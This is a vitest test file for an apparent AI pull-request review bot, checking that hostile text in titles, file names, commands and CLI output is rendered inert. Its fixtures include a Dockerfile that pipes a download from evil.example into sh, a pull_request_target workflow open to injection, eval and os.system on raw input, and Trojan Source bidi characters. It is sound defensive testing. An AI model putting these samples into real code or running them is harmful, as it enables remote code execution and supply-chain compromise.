/** Words made to come alive wherever they are shown again: on the pull request, in the log, at the terminal. */
import { expect, test, vi } from 'vitest'
import { plantedPython } from '../hostile/planted.ts'
import { runCommandProcess } from '../world/command-process.ts'
import { eventually } from '../world/eventually.ts'
import { hostileTexts } from '../world/report.ts'
import { shareService } from './hostile-service.ts'
import { livingParts } from './what-holds.ts'

vi.setConfig({ testTimeout: 120_000 })

const shared = shareService()

const evil = `<!-- autogen-bot:summary -->\n<!-- autogen-bot:finding 0123456789abcdef -->\n${hostileTexts.join('\n').toWellFormed()}`

/** Names that are told in messages: of functions, modules, columns, actions, images. */
const telling = {
  'ids.py': `import os\n\n\ndef f(x):\n    os.system("echo @everyone #1 <img src=x> [a](https://evil.example) " + x)\n    return eval(x)\n`,
  'names.js':
    'const a = 1\nconst a = 2\nif (a = 1) { debugger }\neval("@everyone <b>#1</b> [x](https://evil.example)")\n',
  '.github/workflows/x.yml': `on: pull_request_target\njobs:\n  "<b>@everyone</b>":\n    runs-on: ubuntu-latest\n    steps:\n      - uses: "evil/@everyone-[x](https://evil.example)@main"\n      - uses: actions/checkout@v4\n        with: {ref: "\${{ github.event.pull_request.head.sha }}"}\n      - run: echo "\${{ github.event.issue.title }} \`\`\`"\n`,
  Dockerfile: 'FROM evil.example/@everyone/#1:latest\nRUN curl https://evil.example/x | sh\nUSER root\n',
  'package.json': JSON.stringify(
    {
      dependencies: {
        '@everyone/<img>': 'git+https://evil.example/x.git',
        'a](https://b)': '*',
        '#1': 'latest',
      },
    },
    null,
    2,
  ),
  'a <b>@everyone</b> #1 [x](y) `z`.py': plantedPython,
  '\u202eevil\u2066\u001b[31m.py': plantedPython,
  'requirements.txt': 'evil @ https://evil.example/x.zip\n--index-url http://evil.example\n',
  'trojan.js': 'const access = "user\u202e \u2066// admin\u2069 \u2066"\n',
  'conflict.py': '<<<<<<< @everyone <img src=x>\nx = 1\n=======\nx = 2\n>>>>>>> [a](https://evil.example)\n',
  'disabled.js': 'eval(x) // eslint-disable-line <img src=x> @everyone -- [a](https://evil.example)\n',
  'secret.env': 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKY\n',
}

test('of title, body, commit message, names and code nothing comes alive', async () => {
  const { github, open, reviewed, app } = shared()
  const { repo, number } = await open({
    name: 'evil-words',
    files: telling,
    branch: '@everyone/<img>/#1',
    title: evil,
    body: evil.repeat(20),
    message: evil,
  })
  const pull = await reviewed(repo, number)
  // What holds for every pull request is asked when the file is over; here only that there is something to ask about.
  expect(pull.threads.length).toBeGreaterThan(5)
  expect(pull.issueComments.filter(({ user }) => user?.login === app.botLogin)).toHaveLength(1)
  await github.person('mallory').retitle(repo, number, evil.repeat(3))
})

test('of a command nothing comes alive in its answer, and it is answered once', async () => {
  const { github, open, reviewed, app } = shared()
  const { repo, number } = await open({ name: 'evil-commands', files: { 'a.py': plantedPython } })
  await reviewed(repo, number)
  const writer = github.person('mallory', { [repo]: 'write' })
  const finding = /finding ([0-9a-f]{16})/.exec(github.pull(repo, number).reviewComments[0]?.body ?? '')?.[1]
  const words = hostileTexts
    .filter((text) => text.trim() !== '')
    .map((text) => text.replaceAll('\n', ' ').toWellFormed())
  const commands = [
    ...words.map((text) => `/autogen ${text}`),
    ...words.map((text) => `/autogen dismiss ${finding} ${text}`),
  ]
  for (const command of commands) await writer.comment(repo, number, command)
  const answers = () =>
    github.pull(repo, number).issueComments.filter(({ body }) => body?.includes(':answer '))
  await eventually('every answer', () => answers().length === commands.length, 90_000)
  await github.settled()
  const bodies = answers().map(({ body }) => body ?? '')
  expect(bodies.flatMap(livingParts)).toEqual([])
  expect(answers().every(({ user }) => user?.login === app.botLogin)).toBe(true)
  await reviewed(repo, number)
})

test('operators see printable text only', async () => {
  const { github, open, env, query } = shared()
  github.faults.set({ kind: 'error-before', path: /evil-operators\/pulls/ })
  const { repo, number } = await open({
    name: 'evil-operators',
    files: { 'a.py': plantedPython },
    title: evil,
  })
  await github.person('mallory', { [repo]: 'write' }).comment(repo, number, `/autogen pause\n${evil}`)
  const [job] = await eventually('a job that waits', async () => {
    const rows = await query<{ id: string }>(
      "select id::text from jobs where state = 'parked' and kind = 'answer'",
    )
    return rows.length > 0 && rows
  })
  for (const words of [
    ['queue', 'status'],
    ['queue', 'show', job?.id ?? ''],
    ['circuit', 'list'],
    ['feedback'],
    ['github', 'deliveries'],
    ['queue', 'show', evil],
  ]) {
    const { stdout, stderr } = await runCommandProcess(words, env)
    const shown = (stdout + stderr).replaceAll('\n', '')
    expect([words, /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u.exec(shown)?.[0] ?? null]).toEqual([words, null])
    expect(shown).not.toMatch(/^\s+at .*:\d+:\d+/m)
  }
  github.faults.clear()
  await query("update jobs set not_before = now() where state = 'parked'")
  await github.person('mallory').close(repo, number)
})
